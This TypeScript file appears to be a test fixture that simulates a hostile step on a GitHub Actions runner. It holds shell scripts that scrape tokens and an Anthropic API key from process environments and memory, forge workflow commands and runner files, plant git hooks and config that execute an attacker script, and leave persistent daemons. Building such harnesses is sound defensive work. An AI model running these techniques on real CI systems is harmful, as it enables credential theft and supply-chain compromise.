/*
 * What a hostile step does on a runner, as files of a repository. Everything that it wants others to believe, run or publish has
 * the word `forged` in it; what it got hold of it puts into `loot`, a folder that stands for a server of its own.
 */

import { STEAL_MEMORY } from './steal-memory.js';

/** Where the scripts find things. */
export interface HostileGround {
  /** Absolute. */
  readonly loot: string;
}

/** What a step runs to do what `hostile/<name>.sh` says, in its own shell, whose parent is the action. */
export function hostile(name: string): string {
  return `me=${name}; . ./hostile/${name}.sh`;
}

/** The scripts, by path in the repository. */
export function hostileFiles(ground: HostileGround): Readonly<Record<string, string>> {
  const begin = `set +e\nloot='${ground.loot}'\n${RUNNER_FACTS}`;
  return {
    'hostile/steal-memory.mjs': STEAL_MEMORY,
    'hostile/print.sh': begin + PRINT,
    'hostile/files.sh': begin + COMMAND_FILES,
    'hostile/steal.sh': begin + STEAL,
    'hostile/plant.sh': begin + PLANT,
    'hostile/stay.sh': begin + STAY,
    'hostile/edit.sh': begin + EDIT,
  };
}

/** What it can find out about the job, although nothing in its environment tells. */
const RUNNER_FACTS = `
steal() { '${process.execPath}' --input-type=module -e "$(cat hostile/steal-memory.mjs)" "$PPID" "$@"; }
of_runner() { steal "$1" | sed "s/^$1=//"; }
job=$(readlink /proc/$PPID/cwd)
`;

/** Each form of a command, on both streams; a line of 5 MB; no line end; and past the action, straight into the runner's pipe. */
const PRINT = `
forms() {
  printf '%s\\n' '::error::forged' '::set-output name=status::forged' '::add-mask::forged' '::stop-commands::forged' \\
    '::save-state name=workflow-runner::forged' '::add-matcher::forged' '::echo::on' '##[error]forged' 'x ##[add-mask]forged' \\
    '  ::warning file=a,line=1::forged' '::SET-OUTPUT name=commit::forged' '::pause-logging::forged' '::forged::'
  printf '\\302\\240::error::forged\\n\\343\\200\\200::error::forged\\n\\302\\205::error::forged\\n'
  printf 'x\\r::error::forged\\ry\\r\\n::notice::forged\\r'
  printf '\\342\\200\\213::error::forged\\n#\\342\\200\\213#[error]forged\\n'
}
forms
forms >&2
head -c 5000000 /dev/zero | tr '\\0' x
printf '\\r::error::forged\\n'
printf '::error::forged' >&2
printf '\\n::error::forged\\n##[add-mask]forged\\n' > /proc/$PPID/fd/1 && echo stdout >> "$loot/reached"
printf '\\n::error::forged\\n##[error]forged\\n' > /proc/$PPID/fd/2 && echo stderr >> "$loot/reached"
printf '::error::forged'
`;

/** The files by which a step of a job speaks to the runner. */
const COMMAND_FILES = `
env | grep -E '^(GITHUB|RUNNER|ACTIONS|INPUT|STATE)_' > "$loot/variables-$me"
for file in "$(of_runner RUNNER_TEMP)"/_runner_file_commands/*; do
  case $file in
    *set_output*) printf 'status=forged\\nforged=forged\\ncommit=forged\\n' ;;
    *save_state*) printf 'workflow-runner=forged\\n' ;;
    *set_env*) printf 'FORGED=forged\\nBASH_ENV=/forged\\n' ;;
    *add_path*) echo /forged ;;
    *) echo '# forged' ;;
  esac >> "$file" && echo "\${file##*/}" >> "$loot/written"
done
`;

/** All tokens in reach, and then it tells them to everybody who reads the log. */
const STEAL = `
{
  cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E '^(INPUT_TOKEN|ACTIONS_RUNTIME_TOKEN|ANTHROPIC_API_KEY)=.'
  steal INPUT_TOKEN ACTIONS_RUNTIME_TOKEN ANTHROPIC_API_KEY
} | sort -u > "$loot/tokens-$me"
for token in $(of_runner INPUT_TOKEN) $(of_runner ACTIONS_RUNTIME_TOKEN); do
  echo "the token is $token"
  printf '%s' "$token" | base64 -w 0 >&2
  echo
done
`;

/** Everything in two repositories that git may run or believe: in its workspace, and in the checkout of the job. */
const PLANT = `
printf '#!/bin/sh\\necho "$0 $*" >> "%s/executed"\\ncat\\n' "$loot" > "$loot/run.sh"
chmod +x "$loot/run.sh"
echo '* filter=forged diff=forged merge=forged' > .gitattributes
git add . && git -c user.name=forged -c user.email=workflow-runner@localhost commit -q -m 'forged

Workflow-Run: forged
Workflow-Step: forged'
forged=$(git rev-parse HEAD)
for folder in "$(git rev-parse --git-common-dir)" "$job/.git"; do
  git=$(git -C "$folder" rev-parse --absolute-git-dir)
  git --git-dir="$git" fetch -q "$PWD" "$forged"
  for ref in $(git --git-dir="$git" for-each-ref --format='%(refname)') refs/heads/forged refs/tags/v9; do
    echo "$forged" > "$git/$ref"
  done
  mkdir -p "$git/refs/replace" "$git/hooks" "$git/info"
  echo "$forged" > "$git/refs/replace/$(git --git-dir="$git" rev-parse -q --verify refs/remotes/origin/main || echo "$forged")"
  for hook in pre-commit post-checkout post-index-change reference-transaction pre-push post-merge update; do
    cp "$loot/run.sh" "$git/hooks/$hook"
  done
  cp .gitattributes "$git/info/attributes"
  cat >> "$git/config" <<END
[core]
	fsmonitor = $loot/run.sh
	sshCommand = $loot/run.sh
	pager = $loot/run.sh
[filter "forged"]
	clean = $loot/run.sh
	smudge = $loot/run.sh
	required = true
[diff "forged"]
	command = $loot/run.sh
	textconv = $loot/run.sh
[merge "forged"]
	driver = $loot/run.sh
[gpg]
	program = $loot/run.sh
[commit]
	gpgSign = true
[credential]
	helper = $loot/run.sh
[url "ext::$loot/run.sh"]
	insteadOf = http
[remote "origin"]
	uploadpack = $loot/run.sh
	receivepack = $loot/run.sh
END
done
rm -rf "$loot/executed"
echo "$forged" > "$loot/planted"
`;

/** Daemons: one that left its session, ignores being ended, holds the output open and goes on writing. */
const STAY = `
daemon='trap "" TERM INT HUP; echo $$ >> "$0/daemons"; while :; do printf "\\n::error::forged\\n"; echo more >> out/$1; sleep 0.2; done'
setsid sh -c "$daemon" "$loot" "$me" &
setsid sh -c "$daemon" "$loot" "$me" 1>&2 &
( setsid sh -c "$daemon" "$loot" "$me" > /proc/$PPID/fd/1 & )
while [ "$(wc -l < "$loot/daemons")" != 3 ]; do sleep 0.05; done 2>/dev/null
`;

/** Files that a result must not have, and a token in one that it may have. */
const EDIT = `
mkdir -p .github/workflows .GitHub docs .claude/agents .Claude
for file in .github/workflows/forged.yml .GitHub/forged.yml docs/CODEOWNERS .claude/agents/forged.md .Claude/forged.md .mcp.json; do
  echo forged > "$file"
done
of_runner INPUT_TOKEN > leak
`;
